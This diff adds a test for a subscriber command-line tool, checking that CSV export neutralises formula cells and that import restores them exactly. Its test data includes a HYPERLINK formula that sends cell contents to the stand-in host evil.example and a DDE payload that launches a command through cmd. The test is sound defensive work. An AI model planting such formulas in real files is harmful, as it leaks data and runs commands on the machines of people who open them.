@@ -1,3 +1,4 @@
+import csv
 import json
 from pathlib import Path
 
@@ -219,3 +220,30 @@ def test_categories_boost_by_default_or_filter(run, engine) -> None:  # type: ig
     assert json.loads(run("subscribers", "show", "ada@example.org", "--json").output)["category_filter"] is False
     ok(run("subscribers", "edit", "ada@example.org", "--category-filter"))
     assert json.loads(run("subscribers", "show", "ada@example.org", "--json").output)["category_filter"] is True
+
+
+def test_csv_export_defuses_formulas_and_import_reads_them_back_exactly(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """A cell starting with = + - @ is a formula to a spreadsheet: it is written after a
+    `'` (OWASP's advice), and read back without it; so are cells that start with quotes
+    before one, so that every value comes back as it was."""
+    names = {
+        "a@example.org": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "b@example.org": "+1",
+        "c@example.org": "-x",
+        "d@example.org": "@x",
+        "e@example.org": "'=already quoted",
+        "f@example.org": "'t Hooft",
+    }
+    for address, name in names.items():
+        ok(run("subscribers", "add", address, "--name", name, "--keywords", "optics"))
+    ok(run("subscribers", "add", "=g@example.org", "--keywords", "=cmd|' /C calc'!A0"))
+    path = tmp_path / "subs.csv"
+    ok(run("subscribers", "export", str(path)))
+    cells = [cell for row in csv.reader(path.read_text().splitlines()) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
+    assert {"'" + name for name in names.values() if name != "'t Hooft"} <= set(cells) and "'t Hooft" in cells
+    before = run("subscribers", "export", "--format", "json").output
+    for address in [*names, "=g@example.org"]:
+        ok(run("subscribers", "remove", address, "--yes"))
+    assert "imported 7 subscriber(s)" in ok(run("subscribers", "import", str(path))).output
+    assert run("subscribers", "export", "--format", "json").output == before
